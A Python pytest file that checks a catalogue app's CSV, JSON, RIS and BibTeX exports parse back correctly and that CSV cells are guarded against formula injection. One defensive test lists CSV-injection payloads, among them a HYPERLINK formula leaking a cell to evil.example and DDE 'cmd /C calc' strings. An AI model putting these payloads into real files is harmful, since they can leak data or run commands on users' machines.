"""Exports parse back with independent parsers (the PDF is tested in tests/gui)."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import bibtexparser
import pytest
import rispy

from desktop_app.cli import main
from desktop_app.core.library.db import Library
from desktop_app.core.library.records import ResourceData
from desktop_app.core.service import Catalogue

from ...conftest import titles


def export(capsys: pytest.CaptureFixture[str], lib: Path, fmt: str, *extra: str) -> str:
    assert main(["export", "--library", str(lib), "--format", fmt, "-o", "-", *extra]) == 0
    return capsys.readouterr().out


def test_csv_parses_back(capsys: pytest.CaptureFixture[str], linked: Path) -> None:
    text = export(capsys, linked, "csv")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert sorted(r["title"] for r in rows) == titles(linked)
    ru = next(r for r in rows if r["title"].startswith("Защита"))
    assert ru["countries"] == "Russia" and ru["url"] == "https://example.org/ru"
    india = next(r for r in rows if r["title"] == "Child Online Protection in India")
    assert india["topics"].split("; ")[:2] == ["Child Abuse/Exploitation", "Child Pornography"]


def test_json_parses_back(capsys: pytest.CaptureFixture[str], linked: Path) -> None:
    records = json.loads(export(capsys, linked, "json"))
    assert sorted(r["title"] for r in records) == titles(linked)


def test_ris_parses_back_with_rispy(capsys: pytest.CaptureFixture[str], linked: Path) -> None:
    records = rispy.loads(export(capsys, linked, "ris"))
    assert sorted(r["title"] for r in records) == titles(linked)
    ru = next(r for r in records if r["title"].startswith("Защита"))
    assert ru["urls"] == ["https://example.org/ru"]
    assert "United Nations Children's Fund," in ru["authors"]  # corporate author
    assert ru["year"] == "2019" and ru["abstract"] == "Руководство для школ."
    india = next(r for r in records if r["title"] == "Child Online Protection in India")
    assert "Child Pornography" in india["keywords"]


def test_bibtex_parses_back_with_bibtexparser(
    capsys: pytest.CaptureFixture[str], linked: Path
) -> None:
    library = bibtexparser.parse_string(export(capsys, linked, "bibtex"))
    assert not library.failed_blocks
    got = {e.fields_dict["title"].value.strip("{}") for e in library.entries}
    assert len(library.entries) == len(titles(linked))
    assert "Защита детей в интернете" in got
    pt = next(e for e in library.entries if "Proteção" in e.fields_dict["title"].value)
    assert pt.fields_dict["year"].value == "2021"
    assert pt.fields_dict["url"].value == "https://example.org/pt"
    cyber = next(e for e in library.entries if "Latin America" in e.fields_dict["title"].value)
    assert cyber.fields_dict["author"].value.startswith("{International Centre")


def test_ris_export_imports_back(
    capsys: pytest.CaptureFixture[str], linked: Path, tmp_path: Path
) -> None:
    out = tmp_path / "all.ris"
    assert main(["export", "--library", str(linked), "--format", "ris", "-o", str(out)]) == 0
    fresh = tmp_path / "fresh.db"
    assert main(["import", str(out), "--library", str(fresh), "--create"]) == 0
    assert titles(fresh) == titles(linked)


def test_export_of_a_search_and_a_reading_list(
    capsys: pytest.CaptureFixture[str], linked: Path
) -> None:
    records = json.loads(export(capsys, linked, "json", "--facet", "country=Cambodia"))
    assert len(records) == 3 and all("Cambodia" in r["countries"] for r in records)
    with Library.open(linked) as lib:
        from desktop_app.core.library.lists import ReadingLists

        ReadingLists(lib).add("Briefing", [3, 5])
    doc = json.loads(export(capsys, linked, "json", "--list", "Briefing"))
    assert doc["reading_list"]["name"] == "Briefing"  # a list comes with its name and notes
    assert [r["id"] for r in doc["resources"]] == [3, 5]


def test_pdf_needs_a_file(capsys: pytest.CaptureFixture[str], linked: Path) -> None:
    assert main(["export", "--library", str(linked), "--format", "pdf", "-o", "-"]) == 1
    assert "output file" in capsys.readouterr().err


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_never_begin_like_a_formula(
    capsys: pytest.CaptureFixture[str], seeded_path: Path
) -> None:
    """OWASP's CSV injection: a cell beginning with = + - @ tab or CR gets a leading quote."""
    with Library.open(seeded_path) as lib:
        cat = Catalogue(lib)
        for n, formula in enumerate(FORMULAS):
            cat.create(
                ResourceData(
                    title=f"{formula} {n}",
                    summary=formula,
                    topics=[f"{formula.strip()} topic {n}", "Grooming"],
                    organisations=[f"{formula.strip()} org {n}"],
                )
            )
    text = export(capsys, seeded_path, "csv")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    hostile = [r for r in rows if r["title"].startswith("'")]
    assert len(hostile) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    first = next(r for r in hostile if r["title"].endswith(" 0"))
    assert first["title"] == "'" + FORMULAS[0] + " 0"
    assert first["topics"] == "'" + FORMULAS[0] + " topic 0; Grooming"
    # the other formats keep the text as it is
    records = json.loads(export(capsys, seeded_path, "json"))
    assert any(r["summary"] == FORMULAS[0] for r in records)
    assert "Child Online Protection in India" in {r["title"] for r in rows}


def test_csv_drops_control_characters(
    capsys: pytest.CaptureFixture[str], seeded_path: Path
) -> None:
    with Library.open(seeded_path) as lib:
        view = Catalogue(lib).create(ResourceData(title="Nul title", summary="bell ok"))
    # stored by an older version, before control characters were stripped on the way in
    with sqlite3.connect(seeded_path) as conn:
        conn.execute(
            "UPDATE resource SET title = ?, summary = ? WHERE id = ?",
            ("Nul\x00 title", "bell\x07 ok\nline", view.id),
        )
    text = export(capsys, seeded_path, "csv")
    assert "\x00" not in text and "\x07" not in text
    row = next(r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"))) if "Nul" in r["title"])
    assert row["title"] == "Nul title" and row["summary"] == "bell ok\nline"
